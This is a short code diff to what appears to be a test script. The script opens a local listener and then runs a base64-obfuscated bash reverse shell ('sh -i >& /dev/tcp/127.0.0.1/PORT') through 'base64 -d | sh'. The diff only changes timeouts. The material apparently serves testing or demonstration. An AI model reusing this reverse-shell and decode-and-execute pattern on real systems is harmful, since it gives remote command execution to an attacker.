@@ -19,7 +19,7 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
     listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     listener.bind(("127.0.0.1", 0))
     listener.listen(1)
-    listener.settimeout(8)
+    listener.settimeout(4)
     transcript = []
 
     def operator():
@@ -27,7 +27,7 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
             conn, _ = listener.accept()
         except OSError:
             return
-        conn.settimeout(5)
+        conn.settimeout(3)
         conn.sendall(commands)
         data = b""
         try:
@@ -48,6 +48,6 @@ def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
 port, operator, transcript = start_operator()
 inner = "bash -c 'sh -i >& /dev/tcp/127.0.0.1/%d 0>&1' 2>/dev/null" % port
 blob = base64.b64encode(inner.encode()).decode()
-subprocess.call("echo %s | base64 -d | sh" % blob, shell=True, timeout=8)
-operator.join(6)
+subprocess.call("echo %s | base64 -d | sh" % blob, shell=True, timeout=5)
+operator.join(3)
 print("operator transcript:", transcript)
